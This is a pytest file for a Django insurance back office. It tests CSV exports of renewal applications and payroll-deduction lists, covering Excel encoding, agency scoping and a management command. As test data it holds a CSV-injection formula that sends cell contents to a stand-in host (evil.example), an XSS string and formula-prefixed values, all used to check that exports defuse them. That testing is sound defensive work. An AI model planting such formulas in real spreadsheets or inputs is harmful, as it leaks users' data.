"""Exports: the applications feed (browser and `manage.py export_applications`) and the
payroll-deduction list per group, as Excel in Japan opens them, with hostile cells defused."""

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from keizoku.core.models import AuditEvent
from keizoku.core.testing import make_contract, make_member
from keizoku.renewals.exports import escape_cell

from .conftest import login_staff, make_application

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
HOSTILE_KANA = "<script>alert(1)</script>"


def read(data: bytes) -> list[dict[str, str]]:
    """What Excel sees: a BOM, then UTF-8 rows ending in CRLF."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    lines = text.split("\r\n")
    assert lines[-1] == ""  # every line, the last included, ends with CRLF
    assert all("\n" not in line for line in lines)  # no bare LF between rows
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def applications(group, other_group, member, contract):
    """Accepted, submitted, referred and draft applications; one of another agency."""
    accepted = make_application(
        contract, member, status="accepted", number="K-0001-0000-001", accepted_premium=70_800
    )
    hostile = make_contract(
        group=group,
        policy_number="DM-0002",
        holder_name=HOSTILE_NAME,
        holder_kana=HOSTILE_KANA,
        member_type="employee",
    )
    second = make_member("hostile@example.jp")
    make_application(
        hostile, second, status="accepted", number="K-0001-0000-002", accepted_premium=60_001
    )
    retiree = make_contract(group=group, policy_number="DM-0003", member_type="retiree")
    make_application(
        retiree, second, status="accepted", number="K-0001-0000-003", accepted_premium=50_000
    )
    submitted = make_contract(group=group, policy_number="DM-0004")
    make_application(submitted, second, status="submitted", number="K-0001-0000-004")
    draft = make_contract(group=group, policy_number="DM-0005")
    make_application(draft, second, status="draft")
    other = make_contract(group=other_group, policy_number="OT-0009")
    make_application(other, second, status="accepted", number="K-0001-0000-009")
    return accepted


def test_the_applications_feed_holds_every_application_past_draft_of_the_agency(
    client, clerk, applications
):
    login_staff(client, clerk)
    response = client.get("/backoffice/exports/applications.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="applications-')
    rows = read(response.content)
    assert [row["policy_number"] for row in rows] == ["DM-0001", "DM-0002", "DM-0003", "DM-0004"]
    first = rows[0]
    assert first["acceptance_number"] == "K-0001-0000-001"
    assert first["status"] == "accepted"
    assert first["plan"] == "same"
    assert first["plan_label"] == "前年同等プラン"
    assert first["annual_premium"] == "70800"
    assert first["accepted_premium"] == "70800"
    assert AuditEvent.objects.filter(action="backoffice.export_applications").exists()


def test_hostile_names_are_defused_in_every_export(client, clerk, group, applications):
    login_staff(client, clerk)
    feed = read(client.get("/backoffice/exports/applications.csv").content)
    payroll = read(client.get(f"/backoffice/exports/payroll/{group.pk}.csv").content)
    for rows in (feed, payroll):
        [row] = [row for row in rows if row["policy_number"] == "DM-0002"]
        assert row["holder_name"] == "'" + HOSTILE_NAME  # text in Excel, not a formula
        assert row["holder_kana"] == HOSTILE_KANA  # a CSV is not HTML: kept as it is


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+81312345678", "'+81312345678"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("継続 太郎", "継続 太郎"),
        ("a=b", "a=b"),
        (None, ""),
        (70800, "70800"),
    ],
)
def test_each_cell_that_starts_like_a_formula_gets_an_apostrophe(value, expected):
    assert escape_cell(value) == expected


def test_the_payroll_list_holds_the_groups_accepted_employees_with_their_instalments(
    client, clerk, group, applications
):
    login_staff(client, clerk)
    response = client.get(f"/backoffice/exports/payroll/{group.pk}.csv")
    assert response.status_code == 200
    assert f"payroll-{group.code}-" in response["Content-Disposition"]
    rows = read(response.content)
    assert [row["policy_number"] for row in rows] == ["DM-0001", "DM-0002"]  # no retiree
    assert rows[0]["first_installment"] == "5900"  # the quote's own 12 instalments
    assert rows[0]["installments"] == "12"
    # 60,001 yen without the quote's instalments summing to it: the remainder goes first.
    assert rows[1]["annual_premium"] == "60001"
    assert rows[1]["first_installment"] == "5001"
    assert rows[1]["monthly_installment"] == "5000"
    event = AuditEvent.objects.get(action="backoffice.export_payroll")
    assert event.object_id == str(group.pk)


def test_another_agencys_payroll_list_answers_404(client, other_clerk, group, applications):
    login_staff(client, other_clerk)
    assert client.get(f"/backoffice/exports/payroll/{group.pk}.csv").status_code == 404
    feed = read(client.get("/backoffice/exports/applications.csv").content)
    assert [row["policy_number"] for row in feed] == ["OT-0009"]


def test_the_export_page_lists_the_groups_of_the_agency(client, clerk, group, other_group):
    login_staff(client, clerk)
    page = client.get("/backoffice/exports/").content.decode()
    assert f"/backoffice/exports/payroll/{group.pk}.csv" in page
    assert f"/backoffice/exports/payroll/{other_group.pk}.csv" not in page


# --- manage.py export_applications FILE ---------------------------------------------------------


def test_the_command_writes_every_application_past_draft_of_every_agency(
    tmp_path: Path, applications
):
    target = tmp_path / "applications.csv"
    err = io.StringIO()
    call_command("export_applications", str(target), stderr=err)
    rows = read(target.read_bytes())
    assert [row["acceptance_number"] for row in rows] == [
        "K-0001-0000-001",
        "K-0001-0000-002",
        "K-0001-0000-003",
        "K-0001-0000-004",
        "K-0001-0000-009",
    ]
    assert {"acceptance_number", "policy_number", "status", "plan", "annual_premium"} <= set(
        rows[0]
    )
    assert [row["status"] for row in rows] == ["accepted"] * 3 + ["submitted", "accepted"]
    assert rows[1]["holder_name"] == "'" + HOSTILE_NAME
    assert "5 applications exported" in err.getvalue()
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left beside it


def test_the_command_replaces_the_file_whole(tmp_path: Path, applications):
    target = tmp_path / "applications.csv"
    target.write_text("old content that is longer than nothing\n" * 1000)
    call_command("export_applications", str(target), stderr=io.StringIO())
    assert b"old content" not in target.read_bytes()
    assert len(read(target.read_bytes())) == 5


def test_the_command_writes_to_stdout_with_a_dash(applications):
    out = io.StringIO()
    call_command("export_applications", "-", stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 5


def test_the_command_with_no_applications_writes_the_header_only(tmp_path: Path):
    target = tmp_path / "empty.csv"
    call_command("export_applications", str(target), stderr=io.StringIO())
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfacceptance_number,policy_number,status,plan,")
    assert data.endswith(b"\r\n")
    assert read(data) == []
